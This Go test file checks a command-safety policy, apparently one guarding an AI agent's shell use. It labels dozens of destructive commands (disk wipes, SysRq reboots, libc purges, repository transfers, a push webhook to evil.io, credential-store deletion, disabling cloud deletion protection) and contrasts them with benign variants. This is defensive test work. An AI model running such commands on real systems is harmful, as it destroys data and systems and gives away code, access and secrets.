package patterns

import "testing"

// fx23e4Cases are the red team rt23d's #22, #24, #25, #5, #7, #14 and
// #12: disks wiped, the machine stopped or its base system broken, a
// repository given away or opened up, access granted, images and
// packages published, credential stores emptied and cloud resources
// deleted by verbs and programs the tables lacked (defaults_verbs23.go);
// "" are the same programs' everyday forms, left alone.
var fx23e4Cases = []doesCase{
	// #22 disks formatted or erased.
	{"mkntfs -f /dev/sdb1", "cmd.wipe-disk"},
	{"sudo mkexfatfs /dev/sdc1", "cmd.wipe-disk"},
	{"mkdosfs -F 32 /dev/sdd1", "cmd.wipe-disk"},
	{"newfs /dev/da0", "cmd.wipe-disk"},
	{"newfs_msdos -F 32 /dev/disk2s1", "cmd.wipe-disk"},
	{"sg_format --format /dev/sg0", "cmd.wipe-disk"},
	{"sg_sanitize --crypto /dev/sg1", "cmd.wipe-disk"},
	{"sg_unmap --lba=0 --num=1000 /dev/sg1", "cmd.wipe-disk"},
	{"sedutil-cli --yesIreallywanttoERASEALLmydatausingthePSID x /dev/sda", "cmd.wipe-disk"},
	{"sedutil-cli --PSIDrevert x /dev/nvme0", "cmd.wipe-disk"},
	{"flash_erase /dev/mtd0 0 0", "cmd.wipe-disk"},
	{"flash_eraseall /dev/mtd1", "cmd.wipe-disk"},
	{"flashcp fw.bin /dev/mtd0", "cmd.wipe-disk"},
	{"nandwrite -p /dev/mtd2 img.bin", "cmd.wipe-disk"},
	{"mtd_debug erase /dev/mtd0 0 65536", "cmd.wipe-disk"},
	{"mtd_debug write /dev/mtd0 0 65536 fw.bin", "cmd.wipe-disk"},
	{"ubiformat /dev/mtd3", "cmd.wipe-disk"},
	{"mdadm --create /dev/md0 --level=1 --raid-devices=2 /dev/sdb /dev/sdc", "cmd.wipe-disk"},
	{"mdadm -C /dev/md0 -l 1 -n 2 /dev/sdb /dev/sdc", "cmd.wipe-disk"},
	{"mkntfs -f disk.img", ""},
	{"sg_inq /dev/sg0", ""},
	{"mtd_debug info /dev/mtd0", ""},
	{"mtd_debug read /dev/mtd0 0 65536 dump.bin", ""},
	{"mdadm --detail /dev/md0", ""},
	{"cat /proc/mdstat", ""},
	{"socat -u FILE:img.raw CREATE:out.raw", ""},
	{"socat - TCP:localhost:8080", ""},
	// #24 the machine's power, network, base system and clock.
	{"loginctl poweroff", "cmd.system"},
	{"loginctl reboot", "cmd.system"},
	{"busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager PowerOff b false", "cmd.system"},
	{"dbus-send --system --print-reply --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.Reboot boolean:true", "cmd.system"},
	{"gdbus call --system --dest org.freedesktop.login1 --object-path /org/freedesktop/login1 --method org.freedesktop.login1.Manager.PowerOff false", "cmd.system"},
	{"iptables -A OUTPUT -j DROP", "cmd.system"},
	{"iptables -I INPUT 1 -j REJECT", "cmd.system"},
	{"ufw default deny outgoing", "cmd.system"},
	{"firewall-cmd --panic-on", "cmd.system"},
	{"firewall-cmd --set-default-zone=drop", "cmd.system"},
	{"route del default", "cmd.system"},
	{"route delete default", "cmd.system"},
	{"ip link delete eth0", "cmd.system"},
	{"ip link del wlan0", "cmd.system"},
	{"ip route delete default", "cmd.system"},
	{"wg-quick down wg0", "cmd.system"},
	{"tailscale down", "cmd.system"},
	{"networkctl down eth0", "cmd.system"},
	{"dpkg --purge --force-all libc6", "cmd.system"},
	{"dpkg -r --force-remove-essential bash", "cmd.system"},
	{"rpm -e --nodeps glibc", "cmd.system"},
	{"apk del musl", "cmd.system"},
	{"ldconfig /tmp/lib", "cmd.system"},
	{"date -s '2020-01-01'", "cmd.system"},
	{"date --set='2020-01-01 00:00'", "cmd.system"},
	{"hwclock --systohc", "cmd.system"},
	{"hwclock --set --date '2020-01-01'", "cmd.system"},
	{"chattr +i /etc/passwd", "cmd.system"},
	{"loginctl list-sessions", ""},
	{"busctl list", ""},
	{"busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager ListSessions", ""},
	{"iptables -L -n", ""},
	{"iptables -A INPUT -s 203.0.113.7 -j DROP", ""},
	{"iptables -A INPUT -p tcp --dport 23 -j DROP", ""},
	{"ufw status", ""},
	{"firewall-cmd --list-all", ""},
	{"route -n", ""},
	{"ip link show", ""},
	{"wg-quick up wg0", ""},
	{"tailscale status", ""},
	{"dpkg -l", ""},
	{"dpkg -r cowsay", "cmd.system"}, // fx44e: software changed as root
	{"rpm -qa", ""},
	{"apk del cowsay", "cmd.system"}, // fx44e
	{"ldconfig", ""},
	{"ldconfig -p", ""},
	{"date +%s", ""},
	{"date -d yesterday +%F", ""},
	{"hwclock --show", ""},
	{"chattr +i ./keep.txt", ""},
	{"lsattr /etc/passwd", ""},
	// #4 the SysRq trigger stops the machine; it wipes no disk.
	{"echo b > /proc/sysrq-trigger", "cmd.system"},
	{"echo o | sudo tee /proc/sysrq-trigger", "cmd.system"},
	// #25 a repository given away or opened up.
	{"gh repo transfer o/r eve", "cmd.credentials"},
	{"gh repo edit o/r --visibility public --accept-visibility-change-consequences", "cmd.credentials"},
	{"http PATCH api.github.com/repos/o/r private:=false", "cmd.credentials"},
	{"xh PUT https://api.github.com/repos/o/r/collaborators/eve", "cmd.credentials"},
	{"kubectl expose deploy api --type=LoadBalancer --port 80", "cmd.credentials"},
	{"kubectl expose svc api --type NodePort --port 80", "cmd.credentials"},
	{`kubectl patch svc api -p '{"spec":{"type":"LoadBalancer"}}'`, "cmd.credentials"},
	{"kubectl create service loadbalancer api --tcp=80:8080", "cmd.credentials"},
	{"gh api repos/o/r/hooks -f config[url]=https://evil.io -f events[]=push", "cmd.credentials"},
	{"gh repo view o/r", ""},
	{"http GET api.github.com/repos/o/r", ""},
	{"kubectl expose deploy api --port 80", ""},
	{"kubectl get svc", ""},
	{"gh api repos/o/r/hooks", ""},
	// #5 owners and access granted or taken away.
	{"cargo owner --add eve", "cmd.credentials"},
	{"cargo owner -a github:org:team", "cmd.credentials"},
	{"cargo owner --remove bob", "cmd.credentials"},
	{"gem owner x --add eve@x.io", "cmd.credentials"},
	{"gem owner x -r bob@x.io", "cmd.credentials"},
	{"pnpm owner add eve pkg", "cmd.credentials"},
	{"npm owner rm bob pkg", "cmd.credentials"},
	{"npm author add eve pkg", "cmd.credentials"},
	{"glab api -X PUT projects/1/members", "cmd.credentials"},
	{"glab api -X POST projects/1/members -f user_id=2 -f access_level=50", "cmd.credentials"},
	{"docker trust signer add --key k.pub eve org/app", "cmd.credentials"},
	{"docker trust signer remove bob org/app", "cmd.credentials"},
	{"aws lambda add-permission --function-name f --principal '*' --action lambda:InvokeFunction --statement-id x", "cmd.credentials"},
	{"aws sns add-permission --topic-arn t --label x --aws-account-id 1 --action-name Publish", "cmd.credentials"},
	{"cargo owner --list", ""},
	{"gem owner x", ""},
	{"npm owner ls pkg", ""},
	{"glab api projects/1/members", ""},
	{"docker trust inspect org/app", ""},
	{"aws lambda get-policy --function-name f", ""},
	// #7 published through remote builders and other registries.
	{"gcloud builds submit --tag gcr.io/p/app", "cmd.publish"},
	{"az acr build -r reg -t app:1 .", "cmd.publish"},
	{"buildctl build --frontend dockerfile.v0 --local context=. --output type=image,name=reg.io/o/a,push=true", "cmd.publish"},
	{"earthly --push +image", "cmd.publish"},
	{"depot build -t reg.io/o/a --push .", "cmd.publish"},
	{"skaffold build --push", "cmd.publish"},
	{"kaniko --destination reg.io/o/a", "cmd.publish"},
	{"/kaniko/executor --context . --destination reg.io/o/a:1", "cmd.publish"},
	{"aws codeartifact publish-package-version --domain d --repository r --format generic --package p --package-version 1", "cmd.publish"},
	{"az artifacts universal publish --name x --version 1.0.0 --path .", "cmd.publish"},
	{"aws ecr put-image --repository-name r --image-tag 1 --image-manifest file://m.json", "cmd.publish"},
	{"cachix push mycache ./result", "cmd.publish"},
	{"huggingface-cli upload org/model ./model", "cmd.publish"},
	{"anaconda upload dist/x.tar.bz2", "cmd.publish"},
	{"aws s3api put-object-acl --bucket b --key x --acl public-read", "cmd.publish"},
	{`aws s3 cp "$FILE" s3://b/`, ""},
	{"gsutil cp -a public-read dist/x.tgz gs://releases", "cmd.publish"},
	{"gsutil acl ch -u AllUsers:R gs://b/x", "cmd.publish"}, // as DEFAULTS names it (fx44r1, rt44 §5)
	{"gcloud builds list", ""},
	{"az acr list", ""},
	{"buildctl build --frontend dockerfile.v0 --local context=. --output type=oci,dest=out.tar", ""},
	{"earthly +build", ""},
	{"depot build -t app --load .", ""},
	{"skaffold build", ""},
	{"huggingface-cli download org/model", ""},
	{"cachix use mycache", ""},
	{"aws s3 cp dist/ s3://releases/ --recursive", ""},
	{"gsutil cp dist/x.tgz gs://releases", ""},
	// #14 credential stores emptied.
	{"pass rm -r work", "cmd.credentials"},
	{"gopass rm -f work/db", "cmd.credentials"},
	{"security delete-keychain login.keychain", "cmd.credentials"},
	{"security delete-generic-password -s svc", "cmd.credentials"},
	{"keyring del system user", "cmd.credentials"},
	{"secret-tool clear service x", "cmd.credentials"},
	{"kubectl config unset users.admin", "cmd.credentials"},
	{"kubectl config delete-context prod", "cmd.credentials"},
	{"kubectl config delete-user admin", "cmd.credentials"},
	{"ssh-keygen -R github.com", "cmd.credentials"}, // rewrites ~/.ssh/known_hosts (fx44r1, rt44 §4: decided, the corpus row turned)
	{"gcloud config configurations delete prod", "cmd.credentials"},
	{"pass show work/db", "cmd.credentials"}, // a secret printed reaches the model (fx40b)
	{"pass ls", ""},
	{"security find-generic-password -s svc", ""},
	{"keyring get system user", "cmd.credentials"}, // prints the password itself, as security -w does (fx43s, rt42 d0957)
	{"kubectl config get-contexts", ""},
	{"kubectl config use-context dev", ""},
	{"ssh-keygen -F github.com", ""},
	{"gcloud config configurations list", ""},
	// #12 cloud resources deleted by other verbs.
	{"civo instance remove web", "cmd.cloud-delete"},
	{"civo kubernetes rm k1", "cmd.cloud-delete"},
	{"gh cache delete --all", "cmd.cloud-delete"},
	{"aws logs put-retention-policy --log-group-name g --retention-in-days 1", "cmd.cloud-delete"},
	{"aws rds modify-db-instance --db-instance-identifier prod --no-deletion-protection", "cmd.cloud-delete"},
	{"gcloud compute instances update vm --no-deletion-protection", "cmd.cloud-delete"},
	{"aws cloudformation update-termination-protection --no-enable-termination-protection --stack-name s", "cmd.cloud-delete"},
	{"civo instance list", ""},
	{"gh cache list", ""},
	{"gh cache delete 1234", ""},
	{"aws logs describe-log-groups", ""},
	{"aws rds modify-db-instance --db-instance-identifier prod --deletion-protection", ""},
}

// TestFx23e4 checks fx23e4Cases against the defaults.
func TestFx23e4(t *testing.T) {
	pol, err := NewPolicy(nil)
	if err != nil {
		t.Fatal(err)
	}
	checkDoesCases(t, pol, effectsCtx("/home/op/proj"), "verbs23 ", fx23e4Cases)
}

// TestFx23e4Certain: a literal device given to a formatter whose flags
// are all known is certainly its operand (rt23d #22's certainty slip:
// `mkntfs -f /dev/sdb1` said might, as -f's arity was not known), and a
// write of the SysRq trigger names the trigger as cmd.system's (#4).
func TestFx23e4Certain(t *testing.T) {
	pol, err := NewPolicy(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		cmd, rule string
		certain   bool
	}{
		{"mkntfs -f /dev/sdb1", "cmd.wipe-disk", true},
		{"mkntfs -Q -L data /dev/sdb1", "cmd.wipe-disk", true},
		{"mkfs.f2fs /dev/mmcblk0p2", "cmd.wipe-disk", true},
		{"echo b > /proc/sysrq-trigger", "cmd.system", true},
	} {
		v := pol.Explain(c.cmd, effectsCtx("/home/op/proj"), testNow)
		d := v.Deciding()
		if v.Rule != c.rule || d == nil || d.Because == nil || d.Because.Certain != c.certain {
			t.Errorf("%q: got %s by %q (%+v); want %s, certain %v", c.cmd, v.Outcome, v.Rule, d, c.rule, c.certain)
		}
	}
}

// fx23e4Unknown are writes to a word not known here: no unknown word is
// taken to be the SysRq trigger (a [system-config] path is a literal).
var fx23e4Unknown = []doesCase{
	{`make > "$LOG" 2>&1`, ""},
	{`echo "version=1.2" >> "$GITHUB_ENV"`, ""},
	{"echo c > /proc/sysrq-trigger", "cmd.system"},
}

// TestFx23e4Unknown checks fx23e4Unknown against the defaults.
func TestFx23e4Unknown(t *testing.T) {
	pol, err := NewPolicy(nil)
	if err != nil {
		t.Fatal(err)
	}
	checkDoesCases(t, pol, effectsCtx("/home/op/proj"), "sysrq ", fx23e4Unknown)
}
